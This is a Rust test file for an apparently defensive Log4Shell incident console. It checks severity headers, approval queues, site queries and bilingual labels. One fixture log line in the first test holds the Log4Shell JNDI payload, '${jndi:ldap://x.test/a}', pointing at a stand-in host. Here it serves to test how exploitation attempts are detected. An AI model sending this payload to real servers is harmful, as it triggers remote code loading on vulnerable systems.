//! The incident screen over a register: how bad it is, what waits for whom, and where the rows of
//! what is next lead.

use relight_engine::Inventory;
use relight_engine::import::{ImportOptions, import};
use relight_engine::incident::{Entry, EvidenceKind};
use relight_engine::store::SiteRow;
use relight_engine::watch::Feed;
use relight_model::{
    Basis, Component, Criticality, Digest, Flaw, FlawCode, GateKey, Purl, Sbom, Scope,
    UnknownReason,
};
use relight_web::{Lang, texts, words};

use crate::door_support::{START, World, clock, person};
use crate::web_acts::{LOG4SHELL, behind_an_edge, decide, open_incident, propose};

/// The chance of one flaw on one day.
const CHANCES: &str = "#model_version:v,score_date:2027-01-14T00:00:00Z\ncve,epss,percentile\n\
    CVE-2021-44228,0.975,0.999\n";

/// A world with an incident, and the cookies of a commander, an approver and a viewer.
fn start(clock: fn() -> i64) -> (World, [String; 3]) {
    let mut people = <[String; 3]>::default();
    let world = World::start(clock, |store| {
        behind_an_edge(store);
        people = [
            person(store, "chief", 1, &[("commander", "/")]),
            person(store, "zoe", 2, &[("approver", "/")]),
            person(store, "anna", 3, &[("viewer", "/")]),
        ];
    });
    open_incident(&world, &people[0]);
    (world, people)
}

/// Reads what is deployed at a site: this version of log4j-core.
fn deploy(world: &World, site: &str, version: &str) {
    deploy_with(world, site, version, Vec::new());
}

/// The same, with what could not be read there.
fn deploy_with(world: &World, site: &str, version: &str, flaws: Vec<Flaw>) {
    let purl = Purl::new("maven", "org.apache.logging.log4j", "log4j-core", version);
    let component = Component::new(purl, "log4j.jar", Basis::PomProperties, Scope::Installed);
    let sbom = Sbom {
        components: vec![component],
        flaws,
        artifact: Some(Digest([version.as_bytes()[3]; 32])),
        images: Vec::new(),
        tool: "relight test".into(),
    };
    let (site, observed_at) = (GateKey::new(site).unwrap(), world.engine.now());
    let inventory = Inventory { site, sbom, observed_at, profiles: None };
    world.engine.ingest("scanner", &[inventory], EvidenceKind::Scan).unwrap();
}

/// The first line below the heading of the screen.
fn facts(page: &str) -> String {
    let rest = page.split("</h1>").nth(1).unwrap().split("<b>").nth(1).unwrap_or_default();
    rest.split("</b>").next().unwrap().to_owned()
}

/// Goal: the head says how bad it is and whether it is used. Method: chances and attempts come one
/// after the other, and are read again after a while.
#[test]
fn the_head_says_how_bad_it_is() {
    clock!(now, now_set);
    now_set(START);
    let (world, [chief, ..]) = start(now);
    let told = |lang: &str| facts(&world.get(&format!("/?lang={lang}"), &chief).2);
    assert_eq!(told("en"), "CVSS 10.0 · KEV");
    let store = &world.store;
    let file = store.path().with_file_name("epss.csv");
    std::fs::write(&file, CHANCES).unwrap();
    let options = ImportOptions { now: START, ..ImportOptions::default() };
    import(store, &[file], &options, &mut |_, _| ()).unwrap();
    for site in store.sites().unwrap() {
        let line = format!(
            "203.0.113.9 - - [14/Jan/2027:12:00:00 +0000] \
             \"GET /{}?q=${{jndi:ldap://x.test/a}} HTTP/1.1\" 200 12 \"-\" \"-\"\n",
            site.slug,
        );
        let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
        world.engine.ingest_log(&feed, std::io::Cursor::new(line)).unwrap();
    }
    assert_eq!(told("en"), "CVSS 10.0 · KEV", "read ten minutes ago at most");
    now_set(START + 601);
    assert_eq!(told("en"), "CVSS 10.0 · KEV · EPSS 97.5% · attempts at 2 organisations");
    let french = "CVSS 10,0 · KEV · EPSS 97,5\u{a0}% · tentatives chez 2 organismes";
    assert_eq!(told("fr"), french);
    world.web.stop();
}

/// Goal: the queue says who agreed already, where a plan is to open its sites, to whoever may read
/// that plan. Before, it said "automatic" of them.
#[test]
fn a_row_of_what_is_next_names_the_plan_that_waits() {
    clock!(now, now_set);
    now_set(START);
    let (world, [chief, zoe, _]) = start(now);
    propose(&world, &chief, "care");
    assert_eq!(decide(&world, &zoe, "A-0001", "decision=approve").0, 303);
    let (sites, edge) = (vec![GateKey::new("care").unwrap()], "east".to_owned());
    let epoch = relight_model::Epoch::default();
    let dark = Entry::Proved { sites, light: relight_model::Light::Dark, edge, epoch };
    world.engine.record("test", LOG4SHELL, dark).unwrap();
    deploy(&world, "care", "2.17.1");
    let row = |page: &str| {
        let queue = page.split("panel queue").nth(1).unwrap().split("</ul>").next().unwrap();
        assert!(queue.contains("library absent, full analysis"), "{queue}");
        queue.split("class=\"quiet\">").nth(1).unwrap().split('<').next().unwrap().to_owned()
    };
    assert_eq!(row(&world.get("/?lang=en", &zoe).2), "automatic");
    let ask = format!(
        "/plan?lang=en&action=relight&incident={LOG4SHELL}&which=ready&reason=clear&sites=care"
    );
    let page = world.get(&ask, &chief).2;
    let (token, seen) = (crate::door_support::token(&page), crate::web_acts::field(&page, "seen"));
    let form = format!(
        "token={token}&action=relight&which=ready&reason=clear&sites=care&seen={seen}\
         &incident={LOG4SHELL}"
    );
    let (status, head, body) = world.post("/plan?lang=en", &chief, &form);
    assert_eq!(status, 303, "{head}{body}");
    let told = row(&world.get("/?lang=en", &zoe).2);
    assert!(told.starts_with("A-0002 waits: ") && told.ends_with(" of 2 agreed"), "{told}");
    world.web.stop();
}

/// Lights stand at their places, unless somebody asks for them by their states; a table of them is
/// one step away, and the other language keeps how they stand.
#[test]
fn the_wall_stands_by_state_where_asked() {
    clock!(now, now_set);
    now_set(START);
    let (world, [chief, ..]) = start(now);
    let page = world.get("/?lang=en", &chief).2;
    assert!(!page.contains(" data-sorted"), "{page}");
    assert!(page.contains("<a href=\"/?lang=en&#38;order=state\">Sort by state</a>"), "{page}");
    assert!(page.contains("<a href=\"/sites?lang=en\">Show as a table</a>"), "{page}");
    let page = world.get("/?lang=en&order=state", &chief).2;
    assert!(
        page.contains("\" data-sorted><canvas role=")
            && page.contains(">Each light at its place</a>")
    );
    assert!(page.contains("href=\"/?lang=fr&#38;order=state\" lang=\"fr\""), "{page}");
    world.web.stop();
}

/// Goal: a row of what is next leads to exactly its sites. Method: sites in several rows, with
/// filters that people type, in both languages; and names that no row has.
#[test]
fn rows_of_what_is_next_lead_to_their_sites() {
    clock!(now, now_set);
    now_set(START);
    let (world, [chief, zoe, anna]) = start(now);
    propose(&world, &chief, "care+beds");
    assert_eq!(decide(&world, &zoe, "A-0001", "decision=approve").0, 303);
    deploy(&world, "care", "2.14.1");
    deploy(&world, "care", "2.17.1");
    let page = world.get("/?lang=en", &chief).2;
    let queue = page.split("panel queue").nth(1).unwrap().split("</section>").next().unwrap();
    assert!(
        queue.contains(&format!(
            "href=\"/sites?lang=en&#38;queue=unverified&#38;incident={LOG4SHELL}\""
        )),
        "{queue}"
    );
    let listed = |query: &str| {
        let (status, _, page) = world.get(&format!("/sites?lang=en{query}"), &anna);
        assert_eq!(status, 200, "{query}: {page}");
        let rows = page.split("<tr id=\"site-").skip(1);
        let slug = |row: &str| {
            let link = row.split("<a href=").nth(1).unwrap();
            link.split('>').nth(1).unwrap().split('<').next().unwrap().to_owned()
        };
        (rows.map(slug).collect::<Vec<_>>(), page)
    };
    let (rows, page) = listed("&queue=unverified");
    assert_eq!(rows, ["care"], "{page}");
    assert!(
        page.contains("Show all sites") && page.contains("name=\"queue\" value=\"unverified\"")
    );
    let other = format!("&#38;queue=unverified&#38;incident={LOG4SHELL}\" lang=\"fr\"");
    assert!(page.contains(&other), "the other language keeps it");
    assert_eq!(listed("&queue=unverified&q=beds").0, [""; 0]);
    assert_eq!(listed("&queue=unverified&q=care").0, ["care"]);
    for none in ["&queue=nothing", "&queue=unverified&incident=CVE-2099-1"] {
        let (rows, page) = listed(none);
        assert_eq!(rows, [""; 0], "{none} is never wider than what it names");
        assert!(page.contains("There is no such row") && page.contains("Show all sites"), "{page}");
        let rows = world.get(&format!("/sites/rows?lang=en{none}"), &chief).2;
        assert!(rows.contains("\"rows\":[]") && rows.contains("\"relight\":\"\""), "{rows}");
    }
    for all in ["", "&queue="] {
        let (rows, page) = listed(all);
        assert_eq!(rows.len(), 3, "{all}");
        assert!(!page.contains("Show all sites"), "{all}");
    }
    let rows = world.get("/sites/rows?lang=en&queue=unverified", &anna).2;
    assert!(rows.contains("\"care\"") && !rows.contains("\"beds\""), "{rows}");
    world.web.stop();
}

/// Goal: a link that was opened stays what it was. Method: another incident takes the screen, then
/// that one is over.
#[test]
fn a_row_of_what_is_next_belongs_to_its_incident() {
    clock!(now, now_set);
    now_set(START);
    let (world, [chief, zoe, _]) = start(now);
    propose(&world, &chief, "care");
    assert_eq!(decide(&world, &zoe, "A-0001", "decision=approve").0, 303);
    deploy(&world, "care", "2.14.1");
    deploy(&world, "care", "2.17.1");
    let rows = |id: &str| {
        let link = format!("/sites/rows?lang=en&queue=unverified&incident={id}");
        world.get(&link, &chief).2
    };
    let before = rows(LOG4SHELL);
    let plan = format!("which=named&incident={LOG4SHELL}&sites=care");
    assert!(before.contains("\"care\"") && before.contains(&plan), "{before}");
    let opened = Entry::Opened {
        question: "CVE-2024-0001".into(),
        title: "later".into(),
        revision: Digest([1; 32]),
        statements: Digest::default(),
        policy: "test".into(),
    };
    world.engine.record("chief", "CVE-2024-0001", opened).unwrap();
    assert_eq!(rows(LOG4SHELL), before);
    assert!(rows("CVE-2024-0001").contains("\"rows\":[]"), "the other has no such sites");
    let link = "/sites?lang=en&queue=unverified&incident=CVE-2024-0001";
    let is_none = || world.get(link, &chief).2.contains("There is no such row");
    assert!(!is_none());
    world.engine.record("chief", "CVE-2024-0001", Entry::Closed { current: true }).unwrap();
    assert!(is_none(), "the incident is over");
    assert!(rows("CVE-2024-0001").contains("\"rows\":[]"), "and has no sites, least of all others");
    assert_eq!(rows(LOG4SHELL), before, "the first one goes on");
    world.web.stop();
}

/// Goal: whoever is asked for agreement sees how much is missing. Method: one plan, then two.
#[test]
fn a_plan_that_waits_says_how_many_agreed() {
    clock!(now, now_set);
    now_set(START);
    let (world, [chief, zoe, anna]) = start(now);
    let waits = |cookie: &str, lang: &str| {
        let page = world.get(&format!("/?lang={lang}"), cookie).2;
        let link = page.split("class=\"waits button wait\"").nth(1).unwrap_or_default().to_owned();
        link.split('>').nth(1).unwrap_or_default().split('<').next().unwrap().to_owned()
    };
    assert_eq!(waits(&zoe, "en"), "");
    propose(&world, &chief, "care");
    assert_eq!(waits(&zoe, "en"), "A-0001 waits: 1 of 2 agreed");
    assert_eq!(waits(&anna, "fr"), "A-0001 attend\u{a0}: 1 accord sur 2");
    let two = texts::act_seats_wait(Lang::Fr, "A-0002", 3_usize, 2_usize);
    assert_eq!(two, "A-0002 attend\u{a0}: 2 accords sur 3");
    propose(&world, &chief, "beds");
    assert_eq!(waits(&zoe, "en"), "2 plans wait for agreement");
    world.web.stop();
}

/// Goal: the console means by a query what the command line means, and leads from it to a plan
/// about exactly what was listed. Method: queries over text, numbers, states and verdicts; what is
/// none; and who may not propose.
#[test]
fn sites_are_found_by_the_query_language_and_taken_into_a_plan() {
    clock!(now, now_set);
    now_set(START);
    let (world, [chief, _, anna]) = start(now);
    deploy(&world, "care", "2.14.1");
    let listed = |cookie: &str, query: &str| {
        let query: String = url(query);
        let (status, _, page) = world.get(&format!("/sites?lang=en&q={query}"), cookie);
        assert_eq!(status, 200, "{query}: {page}");
        let rows = page.split("<tr id=\"site-").skip(1);
        let slug = |row: &str| {
            let link = row.split("<a href=").nth(1).unwrap();
            link.split('>').nth(1).unwrap().split('<').next().unwrap().to_owned()
        };
        (rows.map(slug).collect::<Vec<_>>(), page)
    };
    for (query, sites) in [
        ("org:Hospital", &["care", "beds"][..]),
        ("org:utility or site:ca*", &["care", "power"]),
        ("crit<=2", &["power"]),
        ("edge:east not sector:health", &["power"]),
        ("edge:none", &[]),
        ("state!=dark-requested org!=utility", &["beds"]),
        ("state:Dark-Requested", &["care"]),
        ("state:dark", &[]),
        ("affected:CVE-2021-44228", &["care"]),
        ("affected or crit:1", &["care", "power"]),
        ("verdict:affected", &["care"]),
    ] {
        let (mut rows, page) = listed(&chief, query);
        let mut wanted: Vec<&str> = sites.to_vec();
        rows.sort();
        wanted.sort_unstable();
        assert_eq!(rows, wanted, "{query}: {page}");
    }
    for (query, why) in [
        ("orgg:x", "unknown key “orgg”. known keys: site, org"),
        ("crit:9", "criticality goes from 1 to 4"),
        ("(org:x", "parenthesis without its other half"),
        ("affected:CVE-1900-1", "CVE-1900-1"),
    ] {
        let (rows, page) = listed(&chief, query);
        assert!(rows.is_empty() && page.contains(why), "{query}: {page}");
    }
    // What was listed is named in the plan; without a filter, and for a reader, there is none.
    let (_, page) = listed(&chief, "org:Hospital");
    let plan = "/plan?lang=en&#38;action=dark&#38;which=named&#38;incident=CVE-2021-44228\
                &#38;sites=care+beds";
    let other = plan.replace("care+beds", "beds+care");
    assert!(page.contains(plan) || page.contains(&other), "{page}");
    let href = page.split("data-batch=\"dark\" href=\"").nth(1).unwrap().split('"').next().unwrap();
    let (_, _, asked) = world.get(&href.replace("&#38;", "&"), &chief);
    let named = ["care beds", "beds care"].map(|it| format!("{it}</textarea>"));
    assert!(named.iter().any(|it| asked.contains(it)), "{asked}");
    assert!(asked.contains("<option value=\"named\" selected>"), "{asked}");
    for (cookie, query) in [(&chief, ""), (&anna, "org:Hospital"), (&chief, "edge:none")] {
        assert!(listed(cookie, query).1.contains("<p class=\"acts batch\" hidden>"), "{query}");
    }
    let data = world.get("/sites/rows?lang=en&q=orgg:x", &chief).2;
    assert!(data.contains("unknown key") && data.contains("\"dark\":\"\""), "{data}");
    // And the API means the same.
    let api = |query: &str| world.get(&format!("/api/v1/sites?query={}", url(query)), &anna);
    let (status, _, body) = api("crit<=2 or site:beds");
    assert!(status == 200 && body.contains("\"total\":2"), "{body}");
    refused_in_words(&world, &anna);
    world.web.stop();
}

/// A query that is none is refused in the language that is asked for.
fn refused_in_words(world: &World, cookie: &str) {
    for (lang, told) in [
        ("en", ["unknown key “orgg”", "(query-unknown-key at byte 0)"]),
        ("fr", ["clé inconnue", "(query-unknown-key à l’octet 0)"]),
    ] {
        let (status, _, body) =
            world.get(&format!("/api/v1/sites?query=orgg:x&lang={lang}"), cookie);
        assert!(status == 422 && told.iter().all(|it| body.contains(it)), "{body}");
    }
}

/// A text in an address.
fn url(text: &str) -> String {
    let encoded = |byte: u8| match byte {
        byte if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
        byte => format!("%{byte:02X}"),
    };
    text.bytes().map(encoded).collect()
}

/// Goal: what hides packages of one kind is told as that, and not as a gap that a scan could close.
#[test]
fn the_page_of_a_site_says_which_packages_its_programs_hide() {
    clock!(now, now_set);
    now_set(START);
    let (world, [chief, ..]) = start(now);
    let flaw = |code| Flaw { code, evidence: "bin/x".into(), bytes: 0 };
    let said = |codes: &[FlawCode]| {
        deploy_with(&world, "care", "2.17.1", codes.iter().copied().map(flaw).collect());
        let (status, _, page) = world.get("/site/care?lang=en", &chief);
        assert_eq!(status, 200);
        let telling = [
            texts::inventory_complete(Lang::En).to_owned(),
            texts::site_hidden(Lang::En, "golang"),
            words::reason(Lang::En, UnknownReason::NotObservable).to_owned(),
            words::reason(Lang::En, UnknownReason::PartialEncrypted).to_owned(),
        ];
        telling.map(|text| page.contains(&text))
    };
    assert_eq!(said(&[]), [true, false, false, false]);
    assert_eq!(said(&[FlawCode::GoUnlisted]), [false, true, false, false]);
    let both = [FlawCode::Encrypted, FlawCode::GoUnlisted];
    assert_eq!(said(&both), [false, true, false, true]);
}

/// Both ways to a plan vanished without a word where a filter meant more sites than an address
/// holds by their names.
#[test]
fn more_sites_than_one_plan_names_are_told() {
    clock!(now, now_set);
    now_set(START);
    let mut chief = String::new();
    let world = World::start(now, |store| {
        behind_an_edge(store);
        chief = person(store, "chief", 1, &[("commander", "/")]);
        let row = |number: usize| SiteRow {
            line: number + 2,
            slug: GateKey::new(&format!("a-library-with-a-long-name-{number:04}")).unwrap(),
            name_fr: "Bibliothèque".into(),
            name_en: "Library".into(),
            origin: format!("https://library-{number}.example"),
            organisation: "Town".into(),
            sector: "municipal".into(),
            criticality: Criticality::Normal,
            exposure: None,
            aliases: None,
            parts: None,
            channel_fr: None,
            channel_en: None,
            edge: "east".into(),
            public: true,
        };
        let rows: Vec<SiteRow> = (0..200).map(row).collect();
        let plan = store.plan_import(&rows).unwrap();
        store.apply_import(&plan, START, "test").unwrap();
    });
    open_incident(&world, &chief);
    let page = |query: &str| world.get(&format!("/sites?lang=en&{query}"), &chief).2;
    let few = page("sector=health");
    assert!(few.contains("&amp;sites=beds") || few.contains("&#38;sites=beds"), "{few}");
    assert!(few.contains("<p class=\"quiet beyond\" hidden>"), "{few}");
    let many = page("sector=municipal");
    assert!(many.contains("One plan does not take the 200 sites below"), "{many}");
    assert!(!many.contains("which=named"), "{many}");
    let rows = world.get("/sites/rows?lang=fr&sector=municipal", &chief).2;
    assert!(rows.contains("ne prend pas les 200 sites"), "{rows}");
    let all = page("");
    assert!(all.contains("<p class=\"quiet beyond\" hidden>"), "nothing is filtered: {all}");
    world.web.stop();
}

/// Thousands of findings of one site were thousands of rows.
#[test]
fn findings_of_a_site_keep_to_the_limit_of_rows() {
    clock!(now, now_set);
    now_set(START);
    let (world, [chief, ..]) = start(now);
    let component = |number: usize| {
        let purl = Purl::new("maven", "org.apache.logging.log4j", "log4j-core", "2.14.1");
        let path = format!("lib/{number}/log4j.jar");
        Component::new(purl, &path, Basis::PomProperties, Scope::Installed)
    };
    let flaw = |number: usize| Flaw {
        code: FlawCode::ALL[0],
        evidence: format!("broken-{number}.zip"),
        bytes: 0,
    };
    let sbom = Sbom {
        components: (0..400).map(component).collect(),
        flaws: (0..60).map(flaw).collect(),
        artifact: Some(Digest([9; 32])),
        images: Vec::new(),
        tool: "relight test".into(),
    };
    let site = GateKey::new("care").unwrap();
    let inventory = Inventory { site, sbom, observed_at: now() / 1_000, profiles: None };
    world.engine.ingest("scanner", &[inventory], EvidenceKind::Scan).unwrap();
    let page = world.get("/site/care?lang=en", &chief).2;
    let findings = page.split("<h2>Flaws in what it holds").nth(1).unwrap();
    let findings = findings.split("</table>").next().unwrap();
    assert_eq!(findings.matches("<tr><th scope=\"row\">").count(), 150, "{findings}");
    assert!(page.contains("and 10 more"), "parts that were not read: {page}");
    assert!(page.matches(" more</p>").count() == 1, "findings: {page}");
    world.web.stop();
}

/// A screen reader spoke the English title of an advisory as if it were French.
#[test]
fn a_title_in_another_language_says_so() {
    clock!(now, now_set);
    now_set(START);
    let (world, [chief, ..]) = start(now);
    let head = |lang: &str| {
        let page = world.get(&format!("/?lang={lang}"), &chief).2;
        page.split("<h1>").nth(1).unwrap().split("</h1>").next().unwrap().to_owned()
    };
    assert!(head("fr").contains("<span lang=\"en\">"), "{}", head("fr"));
    assert!(!head("en").contains("lang="), "{}", head("en"));
    world.web.stop();
}
